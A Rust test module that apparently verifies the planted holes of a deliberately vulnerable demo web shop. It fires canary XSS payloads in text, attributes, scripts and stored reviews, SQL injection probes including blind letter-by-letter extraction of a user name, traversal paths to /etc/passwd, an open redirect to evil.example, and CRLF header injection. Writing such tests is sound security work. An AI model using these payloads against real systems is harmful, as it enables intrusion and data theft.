//! Demonstrations of the injections. Each first shows that the place works as meant.

use reqwest::Method;
use scraper::Html;
use scraper::Selector;
use serde_json::json;

use super::client::Answer;
use super::client::Shop;
use super::client::encoded;

fn elements(body: &str, selector: &str) -> usize {
    let selector = Selector::parse(selector).expect("a selector");
    Html::parse_document(body).select(&selector).count()
}

pub(super) async fn xss_in_text(shop: &mut Shop) -> bool {
    let plain = shop.get("/search?q=lantern").await;
    assert!(plain.body.contains("Results for <q>lantern</q>"), "{}", plain.body);
    let attack = shop.get(&format!("/search?q={}", encoded("<b id=canary>x</b>"))).await;
    elements(&attack.body, "b#canary") > 0
}

pub(super) async fn xss_in_attribute(shop: &mut Shop) -> bool {
    let plain = shop.get("/newsletter?email=a%40shop.example").await;
    assert_eq!(elements(&plain.body, "input[name=email][value='a@shop.example']"), 1);
    let attack = encoded("\"><b id=canary></b> onfocus=\"x");
    let attack = shop.get(&format!("/newsletter?email={attack}")).await;
    assert_eq!(elements(&attack.body, "b#canary"), 0, "tags are never let through here");
    let attack = shop.get(&format!("/newsletter?email={}", encoded("x\" onfocus=\"canary"))).await;
    elements(&attack.body, "input[onfocus=canary]") > 0
}

pub(super) async fn xss_in_script(shop: &mut Shop) -> bool {
    let plain = shop.get("/track?code=PX-12").await;
    assert!(plain.body.contains("PX-12"));
    let attack = "\";canary();//";
    let attacked = shop.get(&format!("/track?code={}", encoded(attack))).await;
    let scripts = Selector::parse("script").expect("a selector");
    let page = Html::parse_document(&attacked.body);
    page.select(&scripts).any(|script| script.text().collect::<String>().contains(attack))
}

pub(super) async fn xss_behind_a_token(shop: &mut Shop) -> bool {
    let plain = shop.submit("/gift-card", "/gift-card", &[("code", "GC-77")]).await;
    assert!(plain.body.contains("no gift card <q>GC-77</q>"), "{}", plain.body);
    let (_, rest) = plain.body.split_once("name=\"csrf\" value=\"").expect("the next form");
    let token = rest.split('"').next().expect("the attribute ends").to_owned();
    let fields = [("csrf", token.as_str()), ("code", "<b id=canary>x</b>")];
    let attack = shop.post_form("/gift-card", &fields).await;
    assert_eq!(attack.status, 200);
    assert_eq!(shop.post_form("/gift-card", &fields).await.status, 403, "it is used up");
    let old = shop.get("/gift-card").await;
    assert!(!old.body.contains(&token) && shop.get("/gift-card").await.status == 200);
    let (_, rest) = old.body.split_once("name=\"csrf\" value=\"").expect("a form");
    let token = rest.split('"').next().expect("the attribute ends").to_owned();
    let fields = [("csrf", token.as_str()), ("code", "GC-77")];
    assert_eq!(shop.post_form("/gift-card", &fields).await.status, 403, "a later one was shown");
    elements(&attack.body, "b#canary") > 0
}

pub(super) async fn xss_stored(shop: &mut Shop) -> bool {
    let text = "Fine. <img src=x id=canary>";
    let fields = [("product_id", "9"), ("author", "Eve"), ("rating", "4"), ("text", text)];
    let sent = shop.submit("/product?id=9", "/product/review", &fields).await;
    assert_eq!((sent.status, sent.header("location")), (303, "/product?id=9"));
    let seen = shop.visitor().get("/product?id=9").await;
    assert!(seen.body.contains("Fine. ") && seen.body.contains("Eve"));
    elements(&seen.body, "img#canary") > 0
}

pub(super) async fn sql_error(shop: &mut Shop) -> bool {
    let plain = shop.get("/products?category=garden").await;
    assert!(elements(&plain.body, "li.card") > 20);
    let attack = shop.get("/products?category=garden%27").await;
    attack.status == 500 && attack.body.contains("SQLite error 1: unrecognized token")
}

pub(super) async fn sql_boolean(shop: &mut Shop) -> bool {
    assert_eq!(shop.get("/product?id=7").await.status, 200);
    assert_eq!(shop.get("/product?id=999999").await.status, 404);
    let mut ask = async |condition: &str| {
        shop.get(&format!("/product?id={}", encoded(&format!("7 AND {condition}")))).await.status
    };
    let (yes, no, broken) = (ask("3*3=9").await, ask("3*3=8").await, ask("('").await);
    assert_eq!(broken, 404, "errors are swallowed");
    (yes, no) == (200, 404)
}

pub(super) async fn sql_blind(shop: &mut Shop) -> bool {
    let mut ask = async |sku: &str| {
        let answer = shop.json(Method::POST, "/api/stock", &json!({ "sku": sku })).await;
        assert_eq!(answer.status, 200, "never an error");
        answer.json()["available"].as_bool().expect("a boolean")
    };
    assert!(ask("GAR-1002").await);
    assert!(!ask("GAR-0000").await);
    assert!(!ask("GAR-1002'").await);
    // A name that no answer ever shows, guessed letter by letter.
    let guess = |letter| {
        format!("GAR-1002' AND (SELECT substr(name, 1, 1) FROM users WHERE id = 1) = '{letter}")
    };
    let (right, wrong) = (ask(&guess('a')).await, ask(&guess('x')).await);
    right && !wrong
}

pub(super) async fn path_traversal(shop: &mut Shop) -> bool {
    assert!(shop.get("/download?file=care.txt").await.body.contains("Wash by hand"));
    assert_eq!(shop.get("/download?file=none.txt").await.status, 404);
    let reached = |answer: Answer| answer.status == 200 && answer.body.starts_with("root:x:0:0:");
    let mut all = true;
    for name in ["../../../etc/passwd", "../../../../../../../etc/passwd", "/etc/passwd"] {
        let answer = shop.get(&format!("/download?file={}", encoded(name))).await;
        assert!(!answer.body.contains("systemd"), "a file of the real machine");
        all &= reached(answer);
    }
    all
}

pub(super) async fn open_redirect(shop: &mut Shop) -> bool {
    let partner = "https://partner.example/garden";
    let plain = shop.get(&format!("/go?to={}", encoded(partner))).await;
    assert_eq!((plain.status, plain.header("location")), (302, partner));
    let attack = shop.get(&format!("/go?to={}", encoded("//evil.example/x"))).await;
    attack.status == 302 && attack.header("location") == "//evil.example/x"
}

pub(super) async fn header_injection(shop: &mut Shop) -> bool {
    let plain = shop.get("/lang?code=de").await;
    assert!(plain.header("set-cookie").starts_with("lang=de;"));
    let attack = shop.get("/lang?code=de%0d%0aX-Canary:%20sung").await;
    let split = attack.header("x-canary") == "sung";
    // A length of the attacker's would break the connection, in either twin.
    let broken = shop.get("/lang?code=de%0d%0aContent-Length:%2099").await;
    assert_ne!(broken.header("content-length"), "99");
    split
}
